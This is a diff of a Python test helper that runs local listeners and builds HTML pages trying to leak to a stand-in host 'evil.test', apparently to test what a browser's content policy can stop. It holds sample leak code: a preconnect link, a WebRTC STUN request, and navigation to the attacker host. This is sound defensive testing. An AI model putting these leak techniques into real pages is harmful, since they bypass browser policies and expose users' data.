@@ -1,20 +1,33 @@
 """A page that tries everything to reach a server of its own, to store something, and to read what is not its own."""
 
 import contextlib
+import json
 import socket
 import threading
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
 from dataclasses import dataclass, field
+from pathlib import Path
 
 ADDRESS = "127.0.0.66"
 """Where every name under .test leads to in the browser."""
 
 
+LEAKS = (
+    "plain hidden value rel prefetch prerender attribute space list lists node named text value-of-node clone inner "
+    "adjacent fragment parsed xml unsafe document shadow template pieces written own old blank indexed framed "
+    "srcdoc attributes markup data blob address moved opened itself framed-link srcdoc-link attributes-link "
+    "markup-link data-link blob-link address-link moved-link opened-link itself-link"
+).split()
+"""The ways out of `make_leaks_page`."""
+
+
 @dataclass
 class Listener:
-    """A server that takes down who connects or sends a datagram to it."""
+    """A server that takes down who connects or sends a datagram to it. Each way out that may send no request has a port
+    of its own, by which it is known."""
 
     port: int
+    ports: dict[str, int] = field(default_factory=dict)
     heard: list[str] = field(default_factory=list)
 
     def take(self) -> list[str]:
@@ -25,45 +38,48 @@ class Listener:
 
 @contextlib.contextmanager
 def listen() -> Iterator[Listener]:
-    tcp = socket.create_server((ADDRESS, 0), backlog=128)
-    port = tcp.getsockname()[1]
-    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    udp.bind((ADDRESS, port))
-    listener = Listener(port)
-    for work in (_accept, _receive):
-        threading.Thread(target=work, args=(tcp if work is _accept else udp, listener), daemon=True).start()
-    try:
+    with contextlib.ExitStack() as stack:
+        sockets = {name: _open(stack) for name in ("", *LEAKS)}
+        ports = {name: tcp.getsockname()[1] for name, (tcp, _) in sockets.items()}
+        listener = Listener(ports.pop(""), ports)
+        for name, (tcp, udp) in sockets.items():
+            threading.Thread(target=_accept, args=(tcp, listener, name), daemon=True).start()
+            threading.Thread(target=_receive, args=(udp, listener, name), daemon=True).start()
         yield listener
-    finally:
-        tcp.close()
-        udp.close()
 
 
-def _accept(server: socket.socket, listener: Listener) -> None:
+def _open(stack: contextlib.ExitStack) -> tuple[socket.socket, socket.socket]:
+    tcp = stack.enter_context(socket.create_server((ADDRESS, 0), backlog=128))
+    udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
+    udp.bind((ADDRESS, tcp.getsockname()[1]))
+    return tcp, udp
+
+
+def _accept(server: socket.socket, listener: Listener, name: str) -> None:
     with contextlib.suppress(OSError):
         while True:
             connection, _ = server.accept()
-            threading.Thread(target=_take_down, args=(connection, listener), daemon=True).start()
+            threading.Thread(target=_take_down, args=(connection, listener, name), daemon=True).start()
 
 
-def _take_down(connection: socket.socket, listener: Listener) -> None:
+def _take_down(connection: socket.socket, listener: Listener, name: str) -> None:
     """The path of a request; a connection without one counts, too."""
     with connection, contextlib.suppress(OSError):
-        connection.settimeout(3)
+        connection.settimeout(1)
         try:
             data = connection.recv(4096)
         except TimeoutError:
             data = b""
         words = data.decode("latin-1").split(" ")
-        listener.heard.append(words[1].partition("?")[0] if len(words) > 1 else "a connection without a request")
+        listener.heard.append(name or (words[1].partition("?")[0] if len(words) > 1 else "a connection"))
         connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
 
 
-def _receive(server: socket.socket, listener: Listener) -> None:
+def _receive(server: socket.socket, listener: Listener, name: str) -> None:
     with contextlib.suppress(OSError):
         while True:
             server.recvfrom(4096)
-            listener.heard.append("a datagram")
+            listener.heard.append(name or "a datagram")
 
 
 def make_markup_page(port: int) -> str:
@@ -134,14 +150,15 @@ setTimeout(() => attempt("itself", () => {{ location = "{evil}/itself"; }}), 220
     )
 
 
-def make_leaks_page(port: int) -> str:
-    """What no policy is known to stop: measured, and told in the guide."""
-    return f"""<!doctype html><title>leaks</title><script>
-const link = Object.assign(document.createElement("link"), {{ rel: "preconnect", href: "http://evil.test:{port}" }});
-document.head.append(link);
-try {{
-  const peer = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:{ADDRESS}:{port}" }}] }});
-  peer.createDataChannel("x");
-  peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch((error) => console.log(error.name));
-}} catch (error) {{ console.log(error.name); }}
-</script>"""
+def make_leaks_page(ports: Mapping[str, int]) -> str:
+    """What no policy of a browser stops: connections ahead of time, and WebRTC."""
+    text = Path(__file__).with_name("leaks.html").read_text()
+    text = text.replace("PORTS", json.dumps(ports)).replace("ADDRESS", ADDRESS)
+    for name in ("plain", "hidden", "value", "framed", "framed-link"):
+        text = text.replace(f"{name.upper()}-PORT", str(ports[name]))
+    return text
+
+
+def make_honest_page() -> str:
+    """What scripts may do. What it achieved, it writes to the console."""
+    return Path(__file__).with_name("honest.html").read_text()
